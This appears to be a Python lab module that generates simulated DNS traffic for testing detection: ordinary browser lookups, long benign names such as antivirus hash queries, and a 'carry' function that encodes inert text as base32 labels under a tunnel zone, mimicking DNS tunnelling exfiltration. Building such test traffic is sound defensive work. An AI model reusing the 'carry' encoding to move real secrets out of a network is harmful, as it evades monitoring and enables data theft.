"""Who asks for names: a browser, a tunnel, and others with long names. Queries go to the house's name server."""

import base64
import hashlib
import random
import string
from typing import Final

from botwarden.lab import links, plan, questions
from botwarden.lab.acting import Actor, Outcome
from plays import cast

CHUNK: Final = 60
"""Bytes of data in a name."""
SECRET: Final = b"inert text of the lab: reading %03d, porch 18.2 degrees, humidity 61 percent; "


def ask(actor: Actor, name: str, kind: int = questions.A) -> bytes:
    """One question, and its answer."""
    asked = questions.question(name, actor.random.getrandbits(16), kind)
    return links.ask(actor.permit, plan.GATEWAY_IP, questions.PORT, asked)


def browse(actor: Actor, /) -> Outcome:
    """A browser's start: three names at random to see whether somebody forges answers, then pages and their parts."""
    letters = random.Random(30)
    probes = ["".join(letters.choices(string.ascii_lowercase, k=letters.randint(7, 15))) for _ in range(3)]
    typed = ["nwes.example.com", "shpo-lamps.de", "gardenning-tips.org", "wikpedia.org"]
    stale = [f"{letters.getrandbits(64):016x}.cdn.example.com" for _ in range(6)]
    suffixed = [f"{probe}.lan" for probe in probes]
    asked = [*probes, *suffixed, "news.example", *cast.cdn_names(), *typed, "shop.example", *stale]
    for name in asked:
        ask(actor, name)
        actor.pause(1, 0.5)
    for host in range(2, 22):  # a scanner of the local network, and a log that shows names for addresses
        name = f"{host}.{host % 4}.113.203.in-addr.arpa" if host % 2 else f"{host}.10.168.192.in-addr.arpa"
        ask(actor, name, questions.PTR)
    return Outcome(count=len(asked) + 20, what=f"{len(asked)} names looked up, and 20 addresses")


def carry(actor: Actor, /, *, times: int = 44) -> Outcome:
    """Put text, which is inert, into names below one domain; the answers say that it has come."""
    for n in range(times):
        data = (SECRET % n)[:CHUNK]
        mixed = bytes(byte ^ key for byte, key in zip(data, hashlib.sha512(b"%d" % n).digest(), strict=False))
        text = base64.b32encode(mixed).decode().rstrip("=").lower()
        ask(actor, f"{text[:50]}.{text[50:]}.{n:x}.t.{cast.TUNNEL_ZONE}", questions.TXT)
        actor.pause(1, 0.3)
    said = f"carries text out in {times} names below {cast.TUNNEL_ZONE}, base32, asked for as TXT"
    return Outcome(count=times, target=cast.AUTHORITY_IP, what=said)


def long_names(actor: Actor, /, *, files: int = 24) -> Outcome:
    """Virus scanners ask by hash, one of them unknown to us; a mail program asks lists of spammers; pages load."""
    for n in range(files):
        part = hashlib.md5(b"file %d" % n).hexdigest()
        ask(actor, f"4z9p5tjmcbnblehp4557z1d136.{part[:26]}.avqs.mcafee.com")
        ask(actor, f"{part}.hash.example.org")
        if n % 4 == 0:
            ask(actor, f"{n}.113.0.203.zen.spamhaus.org")
        actor.pause(20, 0.5)
    for name in cast.cdn_names() * 3:
        ask(actor, name)
        actor.pause(5, 0.5)
    for n in range(6):
        ask(actor, "example.com", questions.TXT)
        ask(actor, f"s{n % 2 + 1}._domainkey.example.com", questions.TXT)
    return Outcome(count=files, what=f"{files} files looked up by their hashes, and other long names")
